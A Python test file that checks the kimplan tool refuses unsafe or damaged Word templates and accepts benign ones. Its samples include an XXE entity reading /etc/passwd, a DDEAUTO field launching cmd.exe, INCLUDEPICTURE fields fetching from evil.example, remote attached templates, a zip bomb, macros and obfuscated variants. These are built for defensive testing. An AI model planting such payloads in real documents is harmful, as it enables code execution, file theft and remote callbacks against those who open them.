"""Templates that kimplan does not open: refused with a sentence, and nothing is written."""

from __future__ import annotations

import io
import os
import random
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import AS_OF, Ran, run_cli, write_plan
from typer.testing import CliRunner

from kimplan.cli.app import make_app

from .templates import TEMPLATES, edited, letterhead, logo, plain, read_parts, template, zipped

pytestmark = pytest.mark.slow

Make = Callable[[], bytes]

DOCUMENT = "word/document.xml"
TYPES = "[Content_Types].xml"
RELATIONSHIPS = "word/_rels/document.xml.rels"
SETTINGS_RELATIONSHIPS = "word/_rels/settings.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EMPTY_RELATIONSHIPS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b"</Relationships>"
)
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def changed(**parts: object) -> bytes:
    """Return the plain template with parts changed; ``__`` in a name stands for a dot."""
    return edited(
        template(plain), {name.replace("__", "."): change for name, change in parts.items()}
    )


def replaced(part: str, old: bytes, new: bytes) -> bytes:
    """Return the plain template with `old` replaced once in one of its parts."""

    def change(data: bytes) -> bytes:
        assert old in data
        return data.replace(old, new, 1)

    return edited(template(plain), {part: change})


def related(kind: str, target: str, rest: str = 'TargetMode="External"') -> bytes:
    """Return the plain template with one more relationship of its main part."""
    line = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}" {rest}/>'
    return replaced(RELATIONSHIPS, b"</Relationships>", line.encode() + b"</Relationships>")


def with_field(instruction: str) -> bytes:
    field = f"<w:p><w:fldSimple w:instr='{instruction}'/></w:p>"
    return replaced(DOCUMENT, b"<w:body>", b"<w:body>" + field.encode())


def with_runs(*instructions: str) -> bytes:
    """Return the plain template with a line of fields, as Word writes them."""
    fields = "".join(
        "<w:r><w:fldChar w:fldCharType='begin'/></w:r>"
        f"<w:r><w:instrText>{instruction}</w:instrText></w:r>"
        "<w:r><w:fldChar w:fldCharType='separate'/></w:r><w:r><w:t>1</w:t></w:r>"
        "<w:r><w:fldChar w:fldCharType='end'/></w:r>"
        for instruction in instructions
    )
    return replaced(DOCUMENT, b"<w:body>", f"<w:body><w:p>{fields}</w:p>".encode())


def many_parts() -> bytes:
    extra: dict[str, object] = {f"customXml/part{number}.xml": b"<a/>" for number in range(2000)}
    return edited(template(plain), extra)


def bomb() -> bytes:
    return edited(template(plain), {"word/media/bomb.xml": b" " * (30 * 1024 * 1024)})


def large_altogether() -> bytes:
    """More than 50 MB unpacked, in parts that each are packed as tightly as usual."""
    noise = random.Random(7).randbytes(64 * 1024)
    text = b"".join(noise[at : at + 1024] * 24 for at in range(0, len(noise), 1024))
    parts: dict[str, object] = {f"word/media/part{at}.bin": text for at in range(36)}
    return edited(template(plain), parts)


def larger_than_packed() -> bytes:
    return template(plain) + bytes(20 * 1024 * 1024)


def twice(name: str) -> bytes:
    buffer = io.BytesIO(template(plain))
    with zipfile.ZipFile(buffer, "a") as package, pytest.warns(UserWarning, match="Duplicate"):
        package.writestr(name, b"<a/>")
    return buffer.getvalue()


def twice_in_capitals() -> bytes:
    parts = read_parts(template(plain))
    return zipped({**parts, "WORD/Document.xml": parts[DOCUMENT]})


def utf16(part: str) -> Make:
    return lambda: edited(
        template(plain),
        {part: lambda data: data.decode().replace("UTF-8", "UTF-16").encode("utf-16")},
    )


def utf16_without_mark(part: str) -> Make:
    return lambda: edited(
        template(plain),
        {part: lambda data: data.decode().replace("UTF-8", "UTF-16").encode("utf-16-le")},
    )


def encrypted_flag() -> bytes:
    """Set the flag of encryption on every entry, in both headers."""
    data = bytearray(template(plain))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(signature, at + 4)
    return bytes(data)


def bad_checksum() -> bytes:
    """Change a byte of a part that is stored as it is."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as package:
        for name, part in read_parts(template(plain)).items():
            package.writestr(name, part)
    return buffer.getvalue().replace(b"{{kimplan:plan}}", b"{{kimplan:plum}}", 1)


def renamed_header(paragraph: bytes) -> bytes:
    """Give the header's part a name without .xml; its content type says what it is."""

    def rename(data: bytes) -> bytes:
        assert b"header1.xml" in data
        return data.replace(b"header1.xml", b"header1.bin")

    file = template(letterhead)
    header = read_parts(file)["word/header1.xml"].replace(b"</w:hdr>", paragraph + b"</w:hdr>")
    relationships = read_parts(file)["word/_rels/header1.xml.rels"]
    return edited(
        file,
        {
            "word/header1.xml": None,
            "word/header1.bin": header,
            "word/_rels/header1.xml.rels": None,
            "word/_rels/header1.bin.rels": relationships,
            TYPES: rename,
            RELATIONSHIPS: rename,
        },
    )


LINKED_IMAGE = related("image", "https://evil.example/logo.png")
UTF_7_WITH_ENTITIES = (
    b'<?xml version="1.0" encoding="UTF-7"?>'
    b'+ADwAIQ-DOCTYPE a [+ADwAIQ-ENTITY x "y"+AD4-]+AD4-+ADw-a+AD4-+ACY-x+ADsAPA-/a+AD4-'
)
ENTITY = b'<!DOCTYPE w:document [<!ENTITY a "aaaa">]><w:document '

REFUSED: dict[str, Make] = {
    # no Word document at all
    "empty": lambda: b"",
    "text": lambda: b"Dear Board,\n" * 50,
    "a picture": logo,
    "rtf": lambda: rb"{\rtf1\ansi Hello}",
    "another zip": lambda: zipped({"a.txt": b"a"}),
    "a spreadsheet": lambda: replaced(
        TYPES, b"wordprocessingml.document.main", b"spreadsheetml.sheet.main"
    ),
    "a PDF": lambda: b"%PDF-1.7" + bytes(100),
    "OpenDocument": lambda: zipped({"mimetype": b"application/vnd", "content.xml": b"<a/>"}),
    "an old document": lambda: OLE2 + "WordDocument".encode("utf-16-le") + bytes(4096),
    "a password": lambda: OLE2 + "EncryptedPackage".encode("utf-16-le") + bytes(4096),
    "Strict Open XML": lambda: replaced(
        "_rels/.rels",
        b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument",
        b"http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument",
    ),
    "old or encrypted": lambda: OLE2 + b"\0" * 4096,
    "encrypted entries": encrypted_flag,
    "truncated": lambda: template(plain)[: len(template(plain)) // 2],
    "cut at the end": lambda: template(plain)[:-30],
    "wrong checksum": bad_checksum,
    # broken inside
    "no document.xml": lambda: changed(**{DOCUMENT: None}),
    "no content types": lambda: changed(**{TYPES: None}),
    "no package relationships": lambda: changed(**{"_rels/.rels": None}),
    "broken document.xml": lambda: changed(**{DOCUMENT: b"<w:document><w:body>"}),
    "empty document.xml": lambda: changed(**{DOCUMENT: b""}),
    "broken styles.xml": lambda: changed(**{"word/styles.xml": b"<w:styles"}),
    "broken relationships": lambda: changed(**{RELATIONSHIPS: b"<Relationships"}),
    "broken content types": lambda: changed(**{TYPES: b"<Types"}),
    "broken header": lambda: edited(template(letterhead), {"word/header1.xml": b"<w:hdr"}),
    "broken theme": lambda: changed(**{"word/theme/theme1.xml": b"<a:theme"}),
    "another root": lambda: changed(**{DOCUMENT: b"<html><body>Hello</body></html>"}),
    "missing part": lambda: changed(**{"word/styles.xml": None}),
    "UTF-16 without a mark": utf16_without_mark("word/styles.xml"),
    # too much
    "bomb": bomb,
    "more than 50 MB": large_altogether,
    "more than 20 MB packed": larger_than_packed,
    "2,000 parts": many_parts,
    "a part twice": lambda: twice("word/document.xml"),
    "a part twice in capitals": twice_in_capitals,
    # entities
    "DOCTYPE in UTF-16": lambda: changed(
        **{
            DOCUMENT: lambda data: (
                data.replace(b"<w:document ", ENTITY, 1)
                .decode()
                .replace("UTF-8", "UTF-16", 1)
                .encode("utf-16")
            )
        }
    ),
    "DOCTYPE": lambda: replaced(DOCUMENT, b"<w:document ", ENTITY),
    "DOCTYPE in small letters": lambda: replaced(
        DOCUMENT, b"<w:document ", ENTITY.replace(b"DOCTYPE", b"doctype")
    ),
    "external entity": lambda: replaced(
        "word/styles.xml",
        b"<w:styles ",
        b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:styles ',
    ),
    "DOCTYPE in relationships": lambda: replaced(
        RELATIONSHIPS, b"<Relationships ", b'<!DOCTYPE r [<!ENTITY x "y">]><Relationships '
    ),
    # macros and active content
    "macros": lambda: changed(**{"word/vbaProject.bin": b"\xd0\xcf"}),
    "macros in capitals": lambda: changed(**{"word/VBAPROJECT.BIN": b"\xd0\xcf"}),
    "macro-enabled type": lambda: replaced(
        TYPES,
        b"openxmlformats-officedocument.wordprocessingml.document.main",
        b"ms-word.document.macroEnabled.main",
    ),
    "a macro's relationship": lambda: related("vbaProject", "other.bin", ""),
    "ActiveX": lambda: changed(**{"word/activeX/activeX1.xml": b"<ax/>"}),
    # files from elsewhere
    "attached template": lambda: related("attachedTemplate", "https://evil.example/x.dotm"),
    "linked picture": lambda: LINKED_IMAGE,
    "a mail merge": lambda: related("mailMergeSource", "file:///C:/tenants.xlsx"),
    "linked frame": lambda: related("frame", "https://evil.example/"),
    "linked object": lambda: related("oleObject", "file:///C:/x.xlsx"),
    "sub-document": lambda: related("subDocument", "file:///C:/part.docx"),
    "hyperlink that is a script": lambda: related("hyperlink", "javascript:alert(1)"),
    # the same, dressed up
    "External as a reference": lambda: related(
        "attachedTemplate", "https://evil.example/x.dotm", 'TargetMode="&#69;xternal"'
    ),
    "an address with a >": lambda: related("attachedTemplate", "https://evil.example/x?a>b"),
    "attributes of other names": lambda: related(
        "attachedTemplate",
        "file:///C:/x.dotm",
        'TargetMode="External" zType="/hyperlink" zTarget="https://"',
    ),
    "a prefix for the relationships": lambda: replaced(
        RELATIONSHIPS,
        b"</Relationships>",
        b'<p:Relationship xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships" '
        b'Id="rIdX" Type="' + OFFICE.encode() + b'/attachedTemplate" '
        b'Target="https://evil.example/x>" TargetMode="External"/></Relationships>',
    ),
    # fields that fetch or run
    "a DDE field": lambda: with_field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'),
    "a picture from the web": lambda: with_field('INCLUDEPICTURE "https://evil.example/x.png"'),
    "a text from elsewhere": lambda: with_field('INCLUDETEXT "file:///etc/passwd"'),
    "a picture from the web behind a comment": lambda: with_runs(
        ' INCLUDE<!-- -->PICTURE "https://evil.example/x.png" '
    ),
    "a picture from the web behind a page number": lambda: with_runs(
        " PAGE ", ' INCLUDEPICTURE "https://evil.example/x.png" '
    ),
    "a picture from the web inside another field": lambda: replaced(
        DOCUMENT,
        b"<w:body>",
        b"<w:body><w:p><w:r><w:fldChar w:fldCharType='begin'/><w:instrText>IF 1 = 1 </w:instrText>"
        b"<w:fldChar w:fldCharType='begin'/><w:instrText>INCLUDEPIC</w:instrText></w:r></w:p><w:p>"
        b"<w:r><w:instrText>TURE x</w:instrText><w:fldChar w:fldCharType='end'/>"
        b"<w:fldChar w:fldCharType='end'/></w:r></w:p>",
    ),
    "a field in a part of another name": lambda: renamed_header(
        b"<w:p><w:fldSimple w:instr='DDEAUTO cmd \"/k calc\"'/></w:p>"
    ),
    "entities in another encoding": lambda: changed(
        **{"word/theme/theme1.xml": UTF_7_WITH_ENTITIES}
    ),
    "another encoding": lambda: changed(
        **{
            DOCUMENT: lambda data: (
                data.decode().replace("UTF-8", "ISO-8859-1").encode("ascii", "xmlcharrefreplace")
            )
        }
    ),
}


REASONS = {
    "empty": "it is empty",
    "text": "it is not a Word document",
    "a picture": "it is not a Word document",
    "rtf": "it is in the Rich Text Format (.rtf)",
    "another zip": "it is not a Word document",
    "a PDF": "it is a PDF",
    "a spreadsheet": "it is an Excel workbook",
    "OpenDocument": "it is an OpenDocument file (.odt)",
    "Strict Open XML": "it is a Strict Open XML document",
    "an old document": "it is in the old format of Word (.doc)",
    "a password": "it is protected by a password",
    "old or encrypted": "it is protected by a password, or in the old .doc format",
    "encrypted entries": "it is encrypted",
    "truncated": "it is damaged",
    "wrong checksum": "it is damaged",
    "broken styles.xml": "its part word/styles.xml is broken",
    "macros": "it holds macros",
    "macro-enabled type": "it holds macros",
    "ActiveX": "it holds ActiveX controls",
    "linked picture": (
        "it shows a picture that is linked to and not in it (https://evil.example/logo.png)"
    ),
    "linked object": "it shows an object that is linked to and not in it (file:///C:/x.xlsx)",
    "attached template": "it takes its template from elsewhere (https://evil.example/x.dotm)",
    "a mail merge": "it is joined to the list of a mail merge (file:///C:/tenants.xlsx)",
    "sub-document": "a part of it is in another file (file:///C:/part.docx)",
    "hyperlink that is a script": "it has a link that runs a script",
    "a DDE field": "it has a field that fetches something from elsewhere (DDEAUTO)",
    "a picture from the web behind a comment": "from elsewhere (INCLUDEPICTURE)",
    "a picture from the web behind a page number": "from elsewhere (INCLUDEPICTURE)",
    "bomb": "it unpacks to far more than a Word document should",
    "more than 20 MB packed": "it is larger than 20 MB",
    "2,000 parts": "it has more than 2,000 parts",
    "DOCTYPE": f"its part {DOCUMENT} declares entities",
    "DOCTYPE in UTF-16": f"its part {DOCUMENT} declares entities",
    "UTF-16 without a mark": "its part word/styles.xml is in an unusual encoding",
    "a part twice": "it holds two parts of one name",
}


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a small plan."""
    found = tmp_path_factory.mktemp("refused")
    write_plan(found)
    return found


def refuse(folder: Path, look: Path, report: Callable[[Path, Path, Path], Ran]) -> str:
    """Make a report with `look`, check that nothing was written, and return what was said."""
    target = folder / "board.docx"
    target.write_bytes(b"the last report")
    before = sorted(path.name for path in folder.rglob("*"))
    code, stdout, stderr = report(folder, look, target)
    assert code == 2, (stdout, stderr)
    assert stdout == ""
    assert target.read_bytes() == b"the last report"
    assert sorted(path.name for path in folder.rglob("*")) == before
    assert "internal error" not in stderr
    assert not set(stderr) & set("{}\x1b")
    message, hint = stderr.splitlines()
    assert message.startswith("kimplan: ")
    assert hint.startswith("  hint: ")
    assert hint.endswith((".", "?"))
    return message


def report_here(folder: Path, look: Path, target: Path) -> Ran:
    """Run the command in this process, which takes a tenth of the time."""
    options = ["--as-of", AS_OF.isoformat(), "--template", str(look), "--output", str(target)]
    options.append("--force")  # over what is there
    result = CliRunner().invoke(make_app(["report"]), ["report", "--plan", str(folder), *options])
    if result.exception and not isinstance(result.exception, SystemExit):
        raise result.exception
    return Ran(result.exit_code, result.stdout, result.stderr)


def report_in_a_process(folder: Path, look: Path, target: Path) -> Ran:
    arguments = ["report", "--as-of", AS_OF, "--template", look, "--output", target, "--force"]
    return run_cli([str(argument) for argument in arguments], folder)


@pytest.mark.parametrize("name", REFUSED)
def test_refused(name: str, folder: Path) -> None:
    look = folder / "look.docx"
    look.write_bytes(REFUSED[name]())
    message = refuse(folder, look, report_here)
    assert message.startswith(f"kimplan: the template {look} cannot be used: ")
    assert REASONS.get(name, "") in message


@pytest.mark.parametrize("name", ["truncated", "macros", "DOCTYPE", "bomb"])
def test_refused_in_a_process_of_its_own(name: str, folder: Path) -> None:
    look = folder / "look.docx"
    look.write_bytes(REFUSED[name]())
    assert "cannot be used" in refuse(folder, look, report_in_a_process)


def test_no_such_file(folder: Path) -> None:
    nowhere = folder / "nowhere.docx"
    assert f"there is no template {nowhere}" in refuse(folder, nowhere, report_in_a_process)


def test_a_folder(folder: Path, tmp_path: Path) -> None:
    assert "it is not a file" in refuse(folder, tmp_path, report_here)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="Windows has no named pipes")
def test_a_pipe_does_not_hang(folder: Path, tmp_path: Path) -> None:
    pipe = tmp_path / "pipe.docx"
    os.mkfifo(pipe)
    assert "it is not a file" in refuse(folder, pipe, report_here)


@pytest.mark.parametrize("name", TEMPLATES)
def test_none_of_the_good_templates_is_refused(name: str, folder: Path, tmp_path: Path) -> None:
    look, target = tmp_path / "look.docx", tmp_path / "report.docx"
    look.write_bytes(template(TEMPLATES[name]))
    code, stdout, stderr = report_here(folder, look, target)
    assert (code, stderr) == (0, "")
    assert stdout.startswith(f"Wrote {target}: 3 recommendations")


GOOD: dict[str, Make] = {
    "web link": lambda: related("hyperlink", "https://example.org/a?b=1&amp;c=2"),
    "web link in capitals": lambda: related("hyperlink", "HTTPS://example.org"),
    "mail link": lambda: related("hyperlink", "mailto:office@example.org"),
    "mode first": lambda: replaced(
        RELATIONSHIPS,
        b"</Relationships>",
        f"<Relationship TargetMode='External' Target='http://example.org' Id='rIdX' "
        f"Type='{OFFICE}/hyperlink'/></Relationships>".encode(),
    ),
    "internal mode": lambda: changed(
        **{
            RELATIONSHIPS: lambda data: data.replace(
                b'Target="styles.xml"', b'Target="styles.xml" TargetMode="Internal"'
            )
        }
    ),
    "the word DOCTYPE in a sentence": lambda: replaced(
        DOCUMENT, b"<w:body>", b"<w:body><w:p><w:r><w:t>&lt;!DOCTYPE html&gt;</w:t></w:r></w:p>"
    ),
    "UTF-8 with a mark": lambda: changed(**{DOCUMENT: lambda data: b"\xef\xbb\xbf" + data}),
    "no declaration": lambda: changed(
        **{DOCUMENT: lambda data: data[data.index(b"<w:document") :]}
    ),
    "a page number": lambda: with_field(" PAGE "),
    "a link with such a word in its address": lambda: with_field(
        'HYPERLINK "https://example.org/link/database?include=rd"'
    ),
    "a field of such a property": lambda: with_field('DOCPROPERTY "Database link"'),
    "UTF-16 document": utf16(DOCUMENT),
    "UTF-16 relationships": utf16(RELATIONSHIPS),
    "an OLE object": lambda: changed(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf"}),
    "attached template of the settings": lambda: changed(
        **{
            SETTINGS_RELATIONSHIPS: EMPTY_RELATIONSHIPS.replace(
                b"></",
                f'><Relationship Id="rId1" Type="{OFFICE}/attachedTemplate" '
                'Target="file:///C:/x.dotm" TargetMode="External"/></'.encode(),
            )
        }
    ),
    "hyperlink to a file": lambda: related("hyperlink", "file:///C:/Windows/notepad.exe"),
    "hyperlink to a share": lambda: related("hyperlink", r"\\server\share\x.docx"),
    "a telephone link": lambda: related("hyperlink", "tel:+441234567890"),
    "a relative link": lambda: related("hyperlink", "../policies/repairs.docx"),
    "a picture that Word lost": lambda: related("image", "NULL"),
    "a picture that is not there": lambda: related("image", "media/gone.png", ""),
    "a link to a bookmark": lambda: related("hyperlink", "#_Toc1", ""),
    "a thumbnail that is not there": lambda: replaced(
        "_rels/.rels",
        b"</Relationships>",
        b'<Relationship Id="rIdT" Target="docProps/gone.jpeg" Type="http://schemas.openxmlformats'
        b'.org/package/2006/relationships/metadata/thumbnail"/></Relationships>',
    ),
    "a type of objects and none of them": lambda: replaced(
        TYPES,
        b"<Default ",
        b'<Default Extension="ole" ContentType="application/vnd.openxmlformats-officedocument'
        b'.oleObject"/><Default ',
    ),
    "a drawing with a DOCTYPE": lambda: changed(
        **{
            TYPES: lambda data: data.replace(
                b"<Default ", b'<Default Extension="svg" ContentType="image/svg+xml"/><Default ', 1
            ),
            "word/media/logo.svg": b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x"><svg/>',
        }
    ),
    "a picture that packs well": lambda: changed(
        **{"word/media/blank.bmp": b"BM" + bytes(9_000_000)}
    ),
    "a template of Word (.dotx)": lambda: replaced(
        TYPES, b"wordprocessingml.document.main", b"wordprocessingml.template.main"
    ),
    "the main part of another name": lambda: main_part_called("word/document2.xml"),
    "names in other capitals": lambda: replaced(
        RELATIONSHIPS, b'Target="styles.xml"', b'Target="Styles.xml"'
    ),
    "core properties of the other type": lambda: replaced(
        "_rels/.rels",
        b"schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
        b"schemas.openxmlformats.org/officedocument/2006/relationships/metadata/core-properties",
    ),
    "stored and not packed": lambda: stored(template(plain)),
    "a folder as an entry": lambda: changed(**{"word/media/": b""}),
    "a document without section properties": lambda: replaced(
        DOCUMENT,
        template_section(),
        b"",
    ),
}


def main_part_called(name: str) -> bytes:
    """Return the plain template as Word for the web may write it, with another main part."""
    parts = read_parts(template(plain))
    old, new = DOCUMENT.rpartition("/")[2].encode(), name.rpartition("/")[2].encode()
    for part in (TYPES, "_rels/.rels"):
        assert old in parts[part]
        parts[part] = parts[part].replace(old, new)
    parts[name] = parts.pop(DOCUMENT)
    parts[f"word/_rels/{new.decode()}.rels"] = parts.pop(RELATIONSHIPS)
    return zipped(parts)


def template_section() -> bytes:
    data = read_parts(template(plain))[DOCUMENT]
    return data[data.index(b"<w:sectPr") : data.index(b"</w:sectPr>") + len(b"</w:sectPr>")]


def stored(file: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as package:
        for name, part in read_parts(file).items():
            package.writestr(name, part)
    return buffer.getvalue()


@pytest.mark.parametrize("name", GOOD)
def test_accepted(name: str, folder: Path, tmp_path: Path) -> None:
    look, target = tmp_path / "look.docx", tmp_path / "report.docx"
    look.write_bytes(GOOD[name]())
    code, _, stderr = report_here(folder, look, target)
    assert (code, stderr) == (0, "")
    assert target.is_file()
